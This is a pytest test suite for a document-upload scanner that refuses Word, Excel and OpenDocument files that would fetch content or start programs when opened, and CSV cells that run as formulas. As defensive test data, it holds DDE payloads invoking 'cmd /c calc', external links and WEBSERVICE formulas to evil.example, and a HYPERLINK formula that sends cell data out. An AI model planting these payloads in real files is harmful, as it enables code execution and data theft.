"""What a document or table would fetch or start when it is opened is refused wherever it stands;
what office programs write is taken."""

from __future__ import annotations

import contextlib
import io
import threading
import time
from typing import Any

import docx
import docx.opc.constants
import pytest
import xlsxwriter
from django.core.exceptions import ValidationError
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from files import content_type, formulas, office_scan
from files.formulas import first_run
from files.link_targets import is_elsewhere, is_outside_package, normal_name
from tests.files.test_dangerous import LINK, SPREADSHEET, TYPES, check, packed

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
ODF = (
    " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in (
            "office",
            "text",
            "table",
            "draw",
            "script",
            "form",
            "style",
            "chart",
            "manifest",
            "meta",
            "config",
            "number",
        )
    )
    + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"'
)
ELSEWHERE = "https://evil.example/x"
REFUSED = r"is locked with a password, or holds macros.*Save it without them, or as PDF"


def word(body: str = "", links: str = "", **more: Any) -> bytes:
    """A Word document with this between its beginning and its end, and these relationships of its
    text."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format("application/xml"),
        "word/document.xml": f"<w:document {W}>{body}</w:document>",
    }
    if links:
        parts["word/_rels/document.xml.rels"] = links
    return packed(
        {
            **parts,
            **{
                name.replace("__", "/").replace("_dot_", "."): content
                for name, content in more.items()
            },
        }
    )


def excel(body: str = "", name: str = "xl/worksheets/sheet1.xml", **more: Any) -> bytes:
    """A workbook with this in one of its parts."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format("application/xml"),
        "xl/workbook.xml": f"<workbook {SPREADSHEET}/>",
    }
    return packed(
        {
            **parts,
            name: f"<worksheet {SPREADSHEET}>{body}</worksheet>",
            **{k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()},
        }
    )


def opened(body: str = "", kind: int = 0, **more: Any) -> bytes:
    """An OpenDocument file with this in its content."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content'
        f" {ODF}>{body}</office:document-content>"
    )
    return packed(
        {
            "mimetype": office_scan.OPEN_DOCUMENT[kind],
            "content.xml": content,
            **{k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()},
        }
    )


def named(name: str, content: str | bytes) -> dict[str, Any]:
    """A part whose name no argument can have."""
    return {name: content}


def runs(*texts: str, begin: bool = True) -> str:
    """A field of Word whose instruction is split over runs."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    split = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return (
        char.format("begin")
        + split
        + char.format("separate")
        + "<w:r><w:t>result</w:t></w:r>"
        + char.format("end")
    )


def formula(text: str) -> bytes:
    """A workbook with a formula."""
    return excel(f'<sheetData><row r="1"><c r="A1"><f>{text}</f><v>0</v></c></row></sheetData>')


def of_cell(text: str) -> bytes:
    """An OpenDocument table with a formula."""
    return opened(
        "<table:table><table:table-row><table:table-cell"
        f' table:formula="{text}"/></table:table-row></table:table>',
        1,
    )


FETCHING = {
    **{
        f"relationship {kind}": word(links=LINK.format(kind, ELSEWHERE))
        for kind in (
            "image",
            "video",
            "audio",
            "media",
            "attachedTemplate",
            "externalLinkPath",
            "mailMergeSource",
            "anythingElse",
            "subDocument",
        )
    },
    "relationship to another computer": word(links=LINK.format("image", r"\\evil.example\x.png")),
    "relationship with signs written as numbers": word(
        links=LINK.format("image", "&#104;ttps://evil.example/x")
    ),
    "relationship percent-encoded": word(links=LINK.format("image", "%5C%5Cevil.example%5Cx")),
    "relationship said to be inside": word(
        links=LINK.format("image", ELSEWHERE).replace(' TargetMode="External"', "")
    ),
    "relationship of a part with another name": word(
        word__odd_dot_RELS=LINK.format("video", ELSEWHERE)
    ),
    "field simple": word(f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{ELSEWHERE}&quot; \\d "/>'),
    "field split": word(runs(" INCL", "UDEPIC", f'TURE "{ELSEWHERE}"')),
    "field in strict form": word(
        runs("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        word__header1_dot_xml=f"<w:hdr {STRICT}>{runs('DDE cmd x')}</w:hdr>",
    ),
    "field of lower letters": word(runs(' dde "cmd" "/c calc" ')),
    "field whose name a field gives": word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs(" QUOTE 68 68 69 ")
        + "<w:r><w:instrText> cmd</w:instrText></w:r>"
    ),
    "field whose address a field gives": word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT'
        " </w:instrText></w:r>"
        + runs(" DOCPROPERTY x ")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "field without an end": word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IMPORT'
        f" {ELSEWHERE}</w:instrText></w:r>"
    ),
    "field in a comment": word(
        word__comments_dot_xml=(
            f"<w:comments {W}>{runs('LINK Excel.Sheet.12 C:/x.xlsx')}</w:comments>"
        )
    ),
    "field behind a comment": word("<w:r><w:instrText>D<!-- -->DE cmd</w:instrText></w:r>"),
    "picture of an old drawing": word(
        f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{ELSEWHERE}"/>'
    ),
    "chunk of mail": word(
        links=LINK.format("aFChunk", "chunk.mht").replace(' TargetMode="External"', "")
    ),
    "chunk by its ending": word(word__chunk_dot_mht="MIME-Version: 1.0"),
    "chunk of rich text": word(word__chunk_dot_bin=b"{\\rtf1 }"),
    "chunk by its kind": packed(
        {
            "[Content_Types].xml": TYPES.format("message/rfc822"),
            "word/document.xml": f"<w:document {W}/>",
        }
    ),
    "chunk as a page": word(word__chunk_dot_xml='<html xmlns="http://www.w3.org/1999/xhtml"/>'),
    "drawing": word(
        word__media__image1_dot_svg=(
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{ELSEWHERE}"/></svg>'
        )
    ),
    "drawing with a style": word(
        word__media__image1_dot_svg=(
            f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "{ELSEWHERE}"</style></svg>'
        )
    ),
    "drawing with a style sheet": word(
        word__media__x_dot_svg=(
            f'<?xml-stylesheet href="{ELSEWHERE}"?><svg xmlns="http://www.w3.org/2000/svg"/>'
        )
    ),
    "macro written as a number": packed(
        {
            "[Content_Types].xml": TYPES.format(
                "application/vnd.ms-word.document.macro&#69;nabled.main+xml"
            ),
            "word/document.xml": f"<w:document {W}/>",
        }
    ),
    "macro by another way of writing": word(**named("word/./vba%50roject.bin", b"x")),
    "dde in another folder": excel(
        xl__foo_dot_xml=(
            f'<externalLink {SPREADSHEET}><ddeLink ddeService="cmd" ddeTopic="/c'
            ' calc"/></externalLink>'
        )
    ),
    "dde with a prefix": excel(
        '<x:ddeLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    ),
    "dde under another ending": excel(xl__foo_dot_bin=f"<ddeLink {SPREADSHEET}/>"),
    "connection": excel(
        xl__connections_dot_xml=(
            f'<connections {SPREADSHEET}><connection id="1"><webPr'
            f' url="{ELSEWHERE}"/></connection></connections>'
        )
    ),
    "query": excel(
        xl__queryTables__queryTable1_dot_xml=f'<queryTable {SPREADSHEET} refreshOnLoad="1"/>'
    ),
    "formula": formula(f"WEBSERVICE(&quot;{ELSEWHERE}&quot;)"),
    "formula of later versions": formula(f'SUM(1,_xlfn.WEBSERVICE ("{ELSEWHERE}"))'),
    "formula of pictures": formula(f'_xlfn.IMAGE("{ELSEWHERE}")'),
    "formula in sections": formula("WEB<![CDATA[SERVICE]]>(A1)"),
    "formula by numbers": formula("&#87;EBSERVICE(A1)"),
    "formula of a server": formula('RTD("x",,"y")'),
    "formula of dde": formula("cmd|&apos;/C calc&apos;!A0"),
    "formula of a name": excel(
        "<definedNames><definedName name='x'>FILTERXML(A1,\"//a\")</definedName></definedNames>"
    ),
    "slide under the pointer": packed(
        {
            "[Content_Types].xml": TYPES.format("application/xml"),
            "ppt/presentation.xml": "<p/>",
            "ppt/slides/slide1.xml": (
                '<a:hlinkMouseOver xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
                ' action="ppaction://program"/>'
            ),
        }
    ),
    "open: picture": opened(f'<draw:image xlink:href="{ELSEWHERE}"/>'),
    "open: picture on a disc": opened('<draw:image xlink:href="file:///etc/hosts"/>'),
    "open: picture beside the file": opened('<draw:image xlink:href="../x.png"/>'),
    "open: background": opened(
        styles_dot_xml=(
            f"<office:document-styles {ODF}><style:background-image"
            f' xlink:href="{ELSEWHERE}"/></office:document-styles>'
        )
    ),
    "open: script": opened(
        '<office:scripts><script:event-listener script:event-name="dom:load"'
        ' xlink:href="vnd.sun.star.script:x"/></office:scripts>'
    ),
    "open: macros": opened(**named("./Basic/Standard/Module1.xml", "<x/>")),
    "open: macros in capitals": opened(**named("BASIC//Standard/Module1.xml", "<x/>")),
    "open: macros declared": opened(
        **named(
            "META-INF/manifest.xml",
            f"<manifest:manifest {ODF}><manifest:file-entry"
            ' manifest:full-path="./Scripts/"/></manifest:manifest>',
        )
    ),
    "open: section": opened(
        f'<text:section><text:section-source xlink:href="{ELSEWHERE}"/></text:section>'
    ),
    "open: dde": opened('<text:dde-connection-decl office:dde-application="cmd"/>'),
    "open: template": opened(
        meta_dot_xml=(
            f"<office:document-meta {ODF}><meta:template"
            f' xlink:href="{ELSEWHERE}"/></office:document-meta>'
        )
    ),
    "open: new address after a while": opened(
        meta_dot_xml=(
            f"<office:document-meta {ODF}><meta:auto-reload"
            f' xlink:href="{ELSEWHERE}"/></office:document-meta>'
        )
    ),
    "open: table": opened(
        '<table:table><table:table-source xlink:href="file:///C:/x.csv"/></table:table>', 1
    ),
    "open: range": opened(
        f'<table:table-cell><table:cell-range-source xlink:href="{ELSEWHERE}"/></table:table-cell>',
        1,
    ),
    "open: dde of a table": opened("<table:dde-links><table:dde-link/></table:dde-links>", 1),
    "open: database": opened('<table:database-source-sql table:database-name="x"/>', 1),
    "open: formula": of_cell(f"of:=WEBSERVICE(&quot;{ELSEWHERE}&quot;)"),
    "open: formula of dde": of_cell("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"),
    "open: formula to a file": of_cell("of:=['https://evil.example/x.ods'#$Sheet1.A1]"),
    "open: floating frame": opened(f'<draw:floating-frame xlink:href="{ELSEWHERE}"/>'),
    "open: object in the document": opened(
        Object_1__content_dot_xml=(
            f"<office:document-content {ODF}><draw:image"
            f' xlink:href="{ELSEWHERE}"/></office:document-content>'
        )
    ),
    "other letters": word(
        word__header1_dot_xml=f"<w:hdr {W}>{runs('DDE cmd')}</w:hdr>".encode("utf-16")
    ),
    "other letters declared": word(
        word__header1_dot_xml=f'<?xml version="1.0" encoding="utf-7"?><w:hdr {W}/>'
    ),
    "broken": word(word__header1_dot_xml=f"<w:hdr {W}><w:instrText>"),
}


@pytest.mark.parametrize("what", FETCHING)
def test_what_would_be_fetched_or_started_on_opening_is_refused(what: str) -> None:
    with pytest.raises(ValidationError, match=REFUSED):
        check(FETCHING[what], "letter.docx")


TAKEN = {
    "links that one clicks": word(links=LINK.format("hyperlink", ELSEWHERE)),
    "a field of a page number": word(
        runs(" PAGE ")
        + runs(" TOC \\o &quot;1-3&quot; \\h \\z \\u ")
        + '<w:fldSimple w:instr=" NUMPAGES "/>'
    ),
    "a field with a field": word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
        + runs(" PAGE ")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "a link in a field": word(runs(f' HYPERLINK "{ELSEWHERE}" ')),
    "words about it": word(
        "<w:r><w:t>DDE, INCLUDEPICTURE and WEBSERVICE( are refused | here!</w:t></w:r>"
    ),
    "a picture pasted from a mail": word(
        runs(' INCLUDEPICTURE "cid:image001.png@01DA" \\* MERGEFORMATINET '),
        LINK.format("image", "cid:image001.png@01DA"),
    ),
    "a picture pasted from a page": word(
        links=LINK.format(
            "image",
            "file:///C:\\Users\\jane\\AppData\\Local\\Temp\\msohtmlclip1\\01\\clip_image001.png",
        )
    ),
    "numbers taken from another workbook": excel(
        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=LINK.format(
            "externalLinkPath", "file:///C:\\Users\\jane\\budget.xlsx"
        )
    ),
    "a formula with a link": formula('HYPERLINK("https://example.org/","see")'),
    "a formula with a bar in a text": formula('IF(A1="x|y!",1,2)'),
    "a formula of another sheet": formula("&apos;Year 2026&apos;!A1+[1]Sheet1!B2"),
    "open: text": opened(
        "<office:scripts/><office:body><office:text><text:p><text:a"
        f' xlink:href="{ELSEWHERE}">see</text:a></text:p><draw:frame><draw:image'
        ' xlink:href="Pictures/1.png"/></draw:frame><draw:object xlink:href="./Object'
        ' 1"/></office:text></office:body>',
        Object_1__content_dot_xml=(
            f"<office:document-content {ODF}><chart:chart"
            ' xlink:href=".."/></office:document-content>'
        ),
        Configurations2__accelerator__current_dot_xml="",
        meta_dot_xml=(
            f"<office:document-meta {ODF}><meta:template"
            ' xlink:href="../../Templates/Letter.ott"/></office:document-meta>'
        ),
    ),
    "open: table": of_cell("of:=SUM([.A1:.A3])+{1;2|3;4}"),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_office_programs_write_is_taken(what: str) -> None:
    check(TAKEN[what], "letter.docx")


def written_in_word() -> bytes:
    """A document as python-docx makes it, with what people use: headings, a table, a picture's
    place, a list of contents, a link, notes."""
    made = docx.Document()
    made.core_properties.title = "Request for assistance"
    made.add_heading("Request", 0)
    paragraph = made.add_paragraph("Forensic laboratory", style="List Bullet")
    for kind, text in (
        ("begin", None),
        (None, ' TOC \\o "1-3" '),
        ("separate", None),
        ("end", None),
    ):
        inner = (
            f'<w:fldChar w:fldCharType="{kind}"/>'
            if kind
            else f'<w:instrText xml:space="preserve">{text}</w:instrText>'
        )
        paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}>{inner}</w:r>"))
    made.part.relate_to(
        "https://example.org/", docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True
    )
    table = made.add_table(3, 3, style="Table Grid")
    table.cell(0, 0).text = "ليس معادلة · 中文 · Ünïcode <&>"
    made.sections[0].footer.paragraphs[0].text = "Page"
    body = io.BytesIO()
    made.save(body)
    return body.getvalue()


def written_in_excel(rows: int = 50) -> bytes:
    """A workbook as xlsxwriter makes it, with what people use."""
    body = io.BytesIO()
    book = xlsxwriter.Workbook(body)
    sheet, other = book.add_worksheet("Year 2026"), book.add_worksheet("List")
    sheet.write_row(
        0,
        0,
        ["Country", "Budget", "When", "Description and HREF and src"],
        book.add_format({"bold": True}),
    )
    for row in range(1, rows):
        sheet.write_row(
            row, 0, [f"Country {row}", row * 10.5, "2026-03-01", "see https://example.org/ | yes!"]
        )
    sheet.write_formula(rows, 1, f"=SUM(B2:B{rows})+IF(A1=\"x|y\",1,'List'!A1)")
    sheet.write_url(rows + 1, 0, "https://example.org/", string="Link")
    sheet.write_comment(0, 0, "Checked")
    sheet.add_table(
        0,
        5,
        4,
        6,
        {
            "columns": [
                {"header": "A", "total_function": "sum"},
                {"header": "B", "formula": "=[@A]*2"},
            ],
            "total_row": True,
        },
    )
    sheet.conditional_format(
        "B2:B20",
        {"type": "formula", "criteria": "=$B2>100", "format": book.add_format({"bg_color": "red"})},
    )
    sheet.data_validation("C2", {"validate": "list", "source": "=List!$A$1:$A$3"})
    chart: Any = book.add_chart({"type": "column"})
    chart.add_series({"values": "='Year 2026'!$B$2:$B$20"})
    sheet.insert_chart("H2", chart)
    other.write_column(0, 0, ["a", "b", "c"])
    book.define_name("Budget", "='Year 2026'!$B$2")
    book.close()
    return body.getvalue()


def test_documents_of_real_programs_are_taken() -> None:
    check(written_in_word(), "request.docx")
    check(written_in_excel(), "budget.xlsx")


def test_a_long_document_and_a_large_table_are_taken() -> None:
    """A text of three hundred pages with fields in all of them, and a table of a hundred thousand
    rows."""
    paragraph = (
        "<w:p><w:pPr><w:pStyle w:val='x'/></w:pPr><w:r><w:rPr><w:b/></w:rPr><w:t>Some words of a"
        " text</w:t></w:r></w:p>" + runs(" PAGE ")
    )
    check(word(paragraph * 15_000), "long.docx")
    row = (
        "<row r='1' spans='1:4'><c r='A1' t='s'><v>0</v></c><c r='B1'><v>1.5</v></c><c"
        " r='C1'><f>B1*2</f><v>3</v></c></row>"
    )
    check(excel(f"<sheetData>{row * 100_000}</sheetData>"), "large.xlsx")


LENGTHY = {
    "fields": lambda: word("<w:p><w:instrText>PAGE</w:instrText></w:p>" * 1_500_000),
    "formulas": lambda: excel("<f>A1|A2</f>" * 2_000_000),
    "pictures": lambda: opened("<draw:image xlink:href='Pictures/1.png'/>" * 1_000_000),
    "letters": lambda: word(f"<w:instrText>{'&#65;' * 9_000_000}</w:instrText>"),
    "a text with many instructions and one field": lambda: word(
        "<w:fldChar w:fldCharType='begin'/><w:instrText>"
        + "PAGE " * 200_000
        + "</w:instrText>"
        + "<w:fldChar w:fldCharType='separate'/>" * 100_000
        + "<w:instrText>x</w:instrText>" * 1_500_000
    ),
    "quotes": lambda: excel(f"<f>{chr(39) * 1_000_001}</f>" * 20),
    "a style": lambda: word(
        "<svg"
        f" xmlns='http://www.w3.org/2000/svg'><style>{('url(' + ' ' * 200_000) * 5}</style></svg>"
        * 20
    ),
    "names": lambda: word("".join(f"<w:a{n:x} w:instr=''/>" for n in range(1_000_000))),
}


@pytest.mark.parametrize("what", LENGTHY)
def test_one_look_at_a_file_takes_no_longer_than_its_bound(
    what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(office_scan, "MOST_SECONDS", 0.5)
    body = LENGTHY[what]()
    begun = time.thread_time()
    with contextlib.suppress(ValidationError):  # a quick machine reads some of them whole
        check(body, "letter.docx")
    assert time.thread_time() - begun < 2


LENGTHY_LINES = {
    "separators": "," * 5_000_000 + "(",
    "signs": "=," * 2_500_000 + "(|",
    "brackets": "=(," * 1_500_000,
    "words": "=" + "a." * 2_000_000 + " (",
    "words and bars": "=" + "a " * 1_000_000 + "|" + "a b:" * 500_000 + "|",
    "lines": "\n" * 5_000_000 + "(",
}


@pytest.mark.parametrize("what", LENGTHY_LINES)
def test_one_look_at_a_table_of_text_takes_no_longer_than_its_bound(
    what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formulas, "MOST_SECONDS", 0.5)
    begun = time.thread_time()
    try:
        assert first_run(LENGTHY_LINES[what]) is None
    except formulas.TooLong:
        pass
    assert time.thread_time() - begun < 2


def test_no_more_than_a_few_files_wait_to_be_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    """The other threads of the process are for everybody else."""
    monkeypatch.setattr(content_type, "PATIENCE", 0.01)
    monkeypatch.setattr(content_type, "_waiting", threading.BoundedSemaphore(1))
    with (
        content_type.turn_to_look("a.pdf"),
        pytest.raises(ValidationError, match=r"Send “letter\.docx” again in a minute"),
    ):
        check(word("<w:p/>"), "letter.docx")
    check(word("<w:p/>"), "letter.docx")


@pytest.mark.parametrize(
    ("cell", "is_run"),
    [
        ("=cmd|'/C calc'!A0", True),
        ("+cmd|'/C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!D2", True),
        ("@SUM(1+1)*cmd|' /C calc'!A0", True),
        ('=HYPERLINK("https://evil.example/?"&A1,"see")', True),
        ("=WEBSERVICE(A1)", True),
        ("\t=1+cmd|'x'!A", True),
        ("＝cmd|'/C calc'!A0", True),
        ('  "=IMPORTXML(A1,B1)"', True),
        ("+WEBSERVICE(A1)", True),
        ("=10+20+cmd|'/C calc'!A0", True),
        ("=MSEXCEL|'\\..\\cmd.exe /c calc'!''", True),
        ("-5", False),
        ("+254 (20) 762 1234", False),
        ("+254(0)20 7621234", False),
        ("- Training(s) held", False),
        ("-", False),
        ("=5", False),
        ("@interpol", False),
        ("'=HYPERLINK(A1)", False),
        ("a|b!c", False),
        ("- see annex (2 pages)", False),
        ("f(x) = 2", False),
        ("-1|2|3!", False),
    ],
)
def test_a_cell_of_a_csv_file_that_would_run_is_refused_with_its_line(
    cell: str, is_run: bool
) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    for line in (f"Kenya,{cell}", f"Kenya;{cell};x", cell, f"Kenya,{quoted}"):
        body = f"Country,What\n{line}\n"
        assert bool(first_run(body)) is is_run, line
    if is_run:
        with pytest.raises(ValidationError, match=r"run as a formula.*in line 2"):
            check(body.encode(), "list.csv")
    else:
        check(body.encode(), "list.csv")
    check(cell.encode(), "notes.txt")


def test_where_an_address_leads() -> None:
    for there in (
        "http://x",
        "HTTPS://x",
        r"\\host\x",
        "//host/x",
        "/\\host/x",
        "ftp://x",
        "file://host/x",
        "file:////host/x",
        " mhtml:http://x",
        "smb:x",
    ):
        assert is_elsewhere(there), there
    for here in (
        r"C:\x.dotx",
        "file:///C:/x",
        "file:///home/x",
        "x.png",
        "../x.png",
        "#bookmark",
        "cid:1",
        "",
    ):
        assert not is_elsewhere(here), here
    assert (
        is_outside_package("../x.png")
        and is_outside_package("/etc/passwd")
        and is_outside_package("file:///x")
        and is_outside_package("a/../../x")
    )
    assert not any(
        is_outside_package(inside) for inside in ("Pictures/1.png", "./Object 1", "..", ".", "#a")
    )
    assert {
        normal_name(n)
        for n in ("Basic/x", "./Basic/x", "/basic//x", "a/../basic/x", "BASIC\\x", "%42asic/x")
    } == {"basic/x"}
